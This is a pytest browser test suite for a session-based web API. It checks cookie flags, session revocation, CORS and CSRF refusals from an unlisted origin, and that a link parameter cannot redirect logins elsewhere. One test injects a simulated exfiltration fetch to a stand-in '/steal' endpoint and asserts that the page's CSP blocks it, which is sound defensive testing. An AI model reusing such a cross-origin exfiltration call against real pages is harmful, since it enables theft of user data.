"""The browser page in a real headless Chromium (Debian's `chromium`, driven by Playwright), against `make run`.

Three origins, all on 127.0.0.1 (one site, so the SameSite=Lax cookie travels
between them): the API itself (A), a static copy of the page on an origin in
SESSION_ALLOWED_ORIGINS (B), and one on an origin that is not listed (C). The
copies are the page as A serves it with SESSION_PAGE_API_ORIGIN=A, as a
deployment would copy it. A fourth server (D) only counts what reaches it: a
link's ?api= pointing there must send it nothing.
Screenshots of every step go to test-artifacts/browser/<test>/.

Skipped with a reason when Chromium or Playwright is missing; under CI (env CI
set) that is a failure instead.
"""

from __future__ import annotations

import functools
import http.server
import json
import os
import shutil
import tempfile
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx2 as httpx
import pytest
from emulator import free_port

ROOT = Path(__file__).resolve().parent.parent
ARTIFACTS = ROOT / "test-artifacts" / "browser"
CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
PASSWORD = "correct horse battery"


def _missing() -> str | None:
    if not (shutil.which(CHROMIUM) or Path(CHROMIUM).is_file()):
        return f"Chromium not found at {CHROMIUM} (install it with scripts/ci-browser.sh)"
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError:
        return "Playwright for Python is not installed (pip install -r requirements-dev.txt)"
    return None


@pytest.fixture(scope="module")
def playwright_browser() -> Iterator[Any]:
    reason = _missing()
    if reason is not None:
        if os.environ.get("CI"):
            pytest.fail(f"browser tests cannot run under CI: {reason}")
        pytest.skip(reason)
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        yield browser
        browser.close()


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass


class _Counting(http.server.BaseHTTPRequestHandler):
    """D: answers every request with 204 and records it; the tests expect it to see none."""

    hits: list[str]

    def _record(self) -> None:
        self.hits.append(f"{self.command} {self.path}")
        self.send_response(204)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = do_HEAD = _record

    def log_message(self, format: str, *args: Any) -> None:
        pass


@dataclass(frozen=True)
class Origins:
    api: str  # A: the API, serving the page at /
    allowed: str  # B: the page on another port, listed in SESSION_ALLOWED_ORIGINS
    foreign: str  # C: the page on a port that is not listed
    elsewhere: str  # D: an origin that is neither the page's nor the API's
    elsewhere_hits: list[str]  # what reached D


@pytest.fixture
def origins(project: str, request: pytest.FixtureRequest) -> Iterator[Origins]:
    """`make run` with B allowed (and A itself, for the page it serves), static servers for B and C, and D."""
    with tempfile.TemporaryDirectory() as tmp:
        (Path(tmp) / "static").symlink_to(ROOT / "static")
        servers = []
        for _ in range(2):
            server = http.server.ThreadingHTTPServer(
                ("127.0.0.1", free_port()), functools.partial(_Quiet, directory=tmp)
            )
            threading.Thread(target=server.serve_forever, daemon=True).start()
            servers.append(server)
        allowed, foreign = (f"http://127.0.0.1:{s.server_address[1]}" for s in servers)
        hits: list[str] = []
        counting = http.server.ThreadingHTTPServer(
            ("127.0.0.1", free_port()), type("Counting", (_Counting,), {"hits": hits})
        )
        threading.Thread(target=counting.serve_forever, daemon=True).start()
        servers.append(counting)
        elsewhere = f"http://127.0.0.1:{counting.server_address[1]}"
        api_port = free_port()
        api = f"http://127.0.0.1:{api_port}"
        os.environ["PORT"] = str(api_port)
        os.environ["SESSION_ALLOWED_ORIGINS"] = f"{api},{allowed}"
        os.environ["SESSION_PAGE_API_ORIGIN"] = api
        os.environ["SESSION_COOKIE_SECURE"] = "true"
        # A cold emulator (or a loaded machine) can take longer than the 5 s default on its first write.
        os.environ["SESSION_FIRESTORE_TIMEOUT_SECONDS"] = "30"
        os.environ["PYTHONUNBUFFERED"] = "1"  # the server's log is read for its security events
        try:
            live = request.getfixturevalue("live_server")
            assert live == api, (live, api)
            _warm_up(api)
            # The copy B and C serve: the page as the `api` function serves it.
            (Path(tmp) / "index.html").write_text(httpx.get(f"{api}/", timeout=30).text)
            yield Origins(api, allowed, foreign, elsewhere, hits)
        finally:
            for server in servers:
                server.shutdown()
                server.server_close()


@pytest.fixture
def live_server(project: str, emulator_host: str) -> Iterator[str]:
    """conftest's `make run` server, on the port chosen by `origins`."""
    import tests.conftest as conftest

    wanted = int(os.environ["PORT"])
    original = conftest.free_port
    conftest.free_port = lambda: wanted
    try:
        yield from conftest.live_server.__wrapped__(project, emulator_host)  # type: ignore[attr-defined]
    finally:
        conftest.free_port = original


def _warm_up(api: str) -> None:
    """One write through the server, so the browser steps do not pay for the first connection."""
    reply = httpx.post(f"{api}/register", json={"username": "warm-up", "password": PASSWORD}, timeout=60)
    assert reply.status_code == 201, reply.text


class Shots:
    """Numbered screenshots of one test."""

    def __init__(self, name: str) -> None:
        self.folder = ARTIFACTS / name
        shutil.rmtree(self.folder, ignore_errors=True)
        self.folder.mkdir(parents=True)
        self.count = 0

    def __call__(self, page: Any, step: str) -> None:
        self.count += 1
        page.screenshot(path=str(self.folder / f"{self.count:02d}-{step}.png"), full_page=True)


@pytest.fixture
def shots(request: pytest.FixtureRequest, capsys: pytest.CaptureFixture[str]) -> Shots:
    made = Shots(request.node.name)
    with capsys.disabled():
        print(f"\nscreenshots: {made.folder}")
    return made


def _open(context: Any, url: str, console: list[str] | None = None) -> Any:
    page = context.new_page()
    page.set_default_timeout(15_000)
    lines = console if console is not None else []
    # Printed lines are shown with a failing test's captured output.
    page.on("console", lambda message: (lines.append(message.text), print(f"console {message.type}: {message.text}")))
    page.on("pageerror", lambda error: print(f"page error: {error}"))
    page.goto(url)
    page.wait_for_selector("body[data-ready=true]")
    return page


def _problem(page: Any) -> tuple[str, str]:
    page.wait_for_selector("#problem:not([hidden])")
    return page.inner_text("#problem-title"), page.inner_text("#problem-detail")


def _login(page: Any, username: str = "alice", password: str = PASSWORD) -> None:
    page.fill("#login-form input[name=username]", username)
    page.fill("#login-form input[name=password]", password)
    page.click("#login-button")


def _session_cookies(context: Any) -> list[dict[str, Any]]:
    return [c for c in context.cookies() if c["name"] == "__session"]


def _rows(page: Any, count: int) -> list[Any]:
    from playwright.sync_api import expect

    rows = page.locator("#sessions tbody tr")
    expect(rows).to_have_count(count)  # not wait_for_function: the page's CSP forbids eval
    return list(rows.all())


def _other_device(api: str) -> str:
    """A session opened elsewhere (not in this browser); returns its token."""
    reply = httpx.post(
        f"{api}/login",
        json={"username": "alice", "password": PASSWORD},
        headers={"User-Agent": "other-device/1.0"},
        timeout=30,
    )
    assert reply.status_code == 200, reply.text
    return str(reply.json()["token"])


def _security_events(api: str, name: str) -> list[dict[str, Any]]:
    """The ``name`` events the `make run` server has logged so far (from its log file)."""
    port = api.rsplit(":", 1)[1]
    found = []
    for line in (ROOT / f".pytest-make-run-{port}.log").read_text().splitlines():
        if line.startswith("{") and f'"event": "{name}"' in line:
            record = json.loads(line)
            found.append({k: record[k] for k in ("origin", "path")})
    return found


def _alive(api: str, token: str) -> bool:
    status = httpx.get(f"{api}/profile", headers={"Authorization": f"Bearer {token}"}, timeout=30).status_code
    assert status in (200, 401)
    return status == 200


def test_the_page_register_login_profile_sessions_logout(
    playwright_browser: Any, origins: Origins, shots: Shots
) -> None:
    context = playwright_browser.new_context()
    try:
        page = _open(context, origins.api + "/")
        assert page.inner_text("#api-url") == origins.api
        assert page.inner_text("#status") == "Not logged in"
        shots(page, "start")

        page.fill("#register-form input[name=username]", "alice")
        page.fill("#register-form input[name=password]", PASSWORD)
        page.fill("#register-form input[name=display_name]", "Alice")
        page.click("#register-button")
        page.wait_for_selector("#message:not([hidden])")
        assert page.inner_text("#message") == "Registered alice. You can log in now."
        shots(page, "registered")

        page.fill("#register-form input[name=username]", "alice")
        page.fill("#register-form input[name=password]", PASSWORD)
        page.click("#register-button")
        assert _problem(page) == ("The username is taken", "the username 'alice' is taken")
        shots(page, "register-taken")

        _login(page, password="wrong password!")
        assert _problem(page) == ("Invalid username or password", "invalid username or password")
        assert _session_cookies(context) == []
        shots(page, "login-wrong-password")

        _login(page)
        page.wait_for_selector("text=Logged in as alice")
        assert page.is_hidden("#problem")
        assert page.inner_text("dd[data-field=username]") == "alice"
        assert page.inner_text("dd[data-field=display_name]") == "Alice"
        assert page.inner_text("dd[data-field=permissions]") == "read"
        rows = _rows(page, 1)
        assert "(this browser)" in rows[0].inner_text()
        shots(page, "logged-in")

        # The cookie: HttpOnly, Secure (accepted on http://127.0.0.1), Lax, and invisible to JavaScript.
        (cookie,) = _session_cookies(context)
        assert cookie["httpOnly"] is True
        assert cookie["secure"] is True
        assert cookie["sameSite"] == "Lax"
        assert cookie["domain"] == "127.0.0.1"
        assert "__session" not in page.evaluate("document.cookie")
        assert page.evaluate("document.cookie") == ""

        # Revoke one: a session opened on another device.
        other = _other_device(origins.api)
        page.click("#sessions-button")
        rows = _rows(page, 2)
        (foreign_row,) = [r for r in rows if "other-device/1.0" in r.inner_text()]
        shots(page, "two-sessions")
        foreign_row.locator("button.revoke").click()
        page.wait_for_selector("#message:has-text('revoked')")
        _rows(page, 1)
        assert not _alive(origins.api, other)
        shots(page, "revoked-one")

        # Revoke all others.
        others = [_other_device(origins.api), _other_device(origins.api)]
        page.click("#sessions-button")
        _rows(page, 3)
        page.click("#revoke-others-button")
        page.wait_for_selector("text=All other sessions revoked.")
        _rows(page, 1)
        assert not any(_alive(origins.api, t) for t in others)
        assert page.inner_text("#status") == "Logged in as alice"
        shots(page, "revoked-others")

        # Revoke all, this one too: logged out, cookie cleared.
        page.click("#revoke-all-button")
        page.wait_for_selector("text=Logged out everywhere")
        assert _session_cookies(context) == []
        page.click("#profile-button")
        title, detail = _problem(page)
        assert title == "Authentication required"
        assert detail == "no credentials: send a Bearer token or the session cookie"
        shots(page, "revoked-all")

        # Log in again, reload (the cookie keeps us logged in), log out.
        _login(page)
        page.wait_for_selector("text=Logged in as alice")
        page.reload()
        page.wait_for_selector("body[data-ready=true]")
        page.wait_for_selector("text=Logged in as alice")
        _rows(page, 1)
        page.click("#logout-button")
        page.wait_for_selector("#status:text-is('Logged out')")
        assert _session_cookies(context) == []
        shots(page, "logged-out")
        page.click("#sessions-button")
        assert _problem(page)[0] == "Authentication required"
        shots(page, "after-logout-error")
    finally:
        context.close()


def test_an_allowed_origin_can_use_the_api_and_a_foreign_one_cannot(
    playwright_browser: Any, origins: Origins, shots: Shots
) -> None:
    context = playwright_browser.new_context()
    try:
        assert (
            httpx.post(
                f"{origins.api}/register", json={"username": "alice", "password": PASSWORD}, timeout=30
            ).status_code
            == 201
        )

        # B, listed in SESSION_ALLOWED_ORIGINS: login (a preflighted JSON POST), profile, sessions, revoke.
        page_b = _open(context, f"{origins.allowed}/index.html")
        assert page_b.inner_text("#api-url") == origins.api
        _login(page_b)
        page_b.wait_for_selector("text=Logged in as alice")
        _rows(page_b, 1)
        (cookie,) = _session_cookies(context)
        assert cookie["httpOnly"] is True
        assert page_b.evaluate("document.cookie") == ""
        other = _other_device(origins.api)
        page_b.click("#sessions-button")
        _rows(page_b, 2)
        page_b.click("#revoke-others-button")  # a cross-origin DELETE with the cookie: CORS and CSRF allow it
        page_b.wait_for_selector("text=All other sessions revoked.")
        _rows(page_b, 1)
        assert not _alive(origins.api, other)
        shots(page_b, "allowed-origin")

        # C, not listed: the browser holds the same cookie, but CORS hides every answer from the page…
        console: list[str] = []
        page_c = _open(context, f"{origins.foreign}/index.html", console)
        assert page_c.inner_text("#status") == "Not logged in"
        with page_c.expect_event("requestfailed") as failed:
            page_c.click("#profile-button")
        assert failed.value.url == f"{origins.api}/profile"
        title, detail = _problem(page_c)
        assert title == "The API could not be reached"
        assert "does not allow this page's origin" in detail
        cors = f"from origin '{origins.foreign}' has been blocked by CORS policy"
        assert any(cors in line for line in console), console
        assert page_c.inner_text("#status") == "Not logged in"
        shots(page_c, "foreign-origin-cors")

        # …a JSON POST is stopped at its preflight, before it is sent…
        with page_c.expect_event("requestfailed") as failed:
            _login(page_c)
        assert failed.value.url == f"{origins.api}/login"
        assert _problem(page_c)[0] == "The API could not be reached"
        assert any("Response to preflight request doesn't pass access control check" in line for line in console)

        # …and a "simple" POST, which needs no preflight and carries the cookie, is refused by the CSRF rule.
        with page_c.expect_event("requestfailed") as failed:
            page_c.click("#logout-button")
        assert failed.value.url == f"{origins.api}/logout"
        assert _problem(page_c)[0] == "The API could not be reached"
        assert _security_events(origins.api, "csrf_rejected") == [{"origin": origins.foreign, "path": "/logout"}]
        shots(page_c, "foreign-origin-csrf")

        # The session survived C's attempt: B still works with it.
        assert len(_session_cookies(context)) == 1
        page_b.click("#profile-button")
        page_b.wait_for_selector("dd[data-field=username]")
        assert page_b.is_hidden("#problem")
        page_b.click("#logout-button")
        page_b.wait_for_selector("#status:text-is('Logged out')")
        assert _session_cookies(context) == []
        shots(page_b, "allowed-origin-logged-out")
    finally:
        context.close()


def test_a_link_cannot_point_the_page_at_another_origin(
    playwright_browser: Any, origins: Origins, shots: Shots
) -> None:
    """?api=D on the real page (A) and on its copy (B): the typed password goes to the API, and nothing to D."""
    assert (
        httpx.post(f"{origins.api}/register", json={"username": "alice", "password": PASSWORD}, timeout=30).status_code
        == 201
    )
    context = playwright_browser.new_context()
    sent: list[str] = []
    console: list[str] = []
    context.on("request", lambda r: sent.append(f"{r.method} {r.url}"))
    try:
        for name, page_url in (("a", f"{origins.api}/"), ("b", f"{origins.allowed}/index.html")):
            page = _open(context, f"{page_url}?api={origins.elsewhere}", console)
            assert page.inner_text("#api-url") == origins.api
            _login(page)
            page.wait_for_selector("text=Logged in as alice")
            _rows(page, 1)
            page.click("#profile-button")
            page.wait_for_selector("dd[data-field=username]")
            # Not even a script on the page can reach D: the CSP allows connections to the page and the API only.
            outcome = page.evaluate(
                "url => fetch(url, {method: 'POST', body: 'x'}).then(() => 'sent', (e) => 'blocked')",
                f"{origins.elsewhere}/steal",
            )
            assert outcome == "blocked"
            page.click("#logout-button")
            page.wait_for_selector("#status:text-is('Logged out')")
            shots(page, f"api-parameter-ignored-{name}")
            page.close()
    finally:
        context.close()
    assert origins.elsewhere_hits == []
    assert not [line for line in sent if origins.elsewhere in line.split("?", 1)[0]], sent
    allowed_prefixes = (f"{origins.api}/", f"{origins.allowed}/")
    assert all(line.split(" ", 1)[1].startswith(allowed_prefixes) for line in sent), sent
    assert any(line == f"POST {origins.api}/login" for line in sent), sent
    # The script's attempts, stopped by the browser before any request existed.
    csp = f"Connecting to '{origins.elsewhere}/steal' violates the following Content Security Policy directive"
    assert len([line for line in console if line.startswith(csp)]) >= 2, console
